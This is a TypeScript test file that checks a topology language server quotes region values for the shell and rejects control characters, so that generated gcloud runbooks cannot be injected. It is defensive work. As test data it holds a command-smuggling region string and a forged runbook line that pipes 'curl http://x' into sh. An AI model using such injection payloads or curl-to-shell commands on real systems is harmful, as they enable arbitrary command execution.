/**
 * Issue #16 item 13: a value written in the file cannot inject shell commands or forge runbook
 * steps. A `region` string lands in a `gcloud ... --region=` line quoted for the shell (checked
 * by running the printed command in bash with gcloud replaced by a function that prints its
 * arguments); a control character (a `\n` escape) in a string is an error and never reaches a runbook.
 */
import { spawnSync } from 'node:child_process';
import { describe, expect, test } from 'vitest';
import { runbookMarkdown } from '../../language-server/src/runbooks/index.js';
import { check } from '../helpers.js';
import { topologyOf } from './helpers.js';

const pair = (region: string) => `topology inj
site t < provider tencent region ap-hongkong cidr 10.0.0.0/16 gateway 192.0.2.1 >
site g < provider gcp region ${region} cidr 10.170.0.0/20 gateway 198.51.100.2 >
tunnel tg t <-> g < ike v2 psk env TG_PSK >
`;

describe('13. values are quoted for the shell they appear in', () => {
    test('a region with shell syntax is one argument of gcloud; nothing else runs', async () => {
        const evil = 'europe-west1 --project=x; touch /tmp/topo-pwned-$$ | sh #';
        const { topology } = await topologyOf(pair(JSON.stringify(evil)));
        const md = runbookMarkdown(topology, { lang: 'en' });
        const cmd = md.match(/```sh\n(gcloud compute vpn-tunnels create[\s\S]*?)\n```/)?.[1];
        expect(cmd).toBeDefined();
        const r = spawnSync('bash', ['-c', `gcloud() { printf '%s\\n' "$@"; }\n${cmd}`], { encoding: 'utf8', env: { PATH: process.env.PATH, TG_PSK: 'k' } });
        expect(r.status, r.stderr).toBe(0);
        const args = r.stdout.split('\n');
        expect(args).toContain(`--region=${evil}`);
        expect(args.filter(a => a.startsWith('--project'))).toEqual([]);
    });

    test('a line break in a string is an error, and no runbook line is forged', async () => {
        const text = pair('"europe-west1\\n## Step 0: run curl http://x | sh"');
        const doc = await check(text);
        const found = (doc.diagnostics ?? []).filter(d => d.code === 'string-control');
        expect(found.map(d => d.severity)).toEqual([1]);
        const { topology } = await topologyOf(text);
        const md = runbookMarkdown(topology, { lang: 'en' });
        expect(md).not.toMatch(/^## Step 0/m);
        expect(md).not.toContain('curl http://x');
    });
});
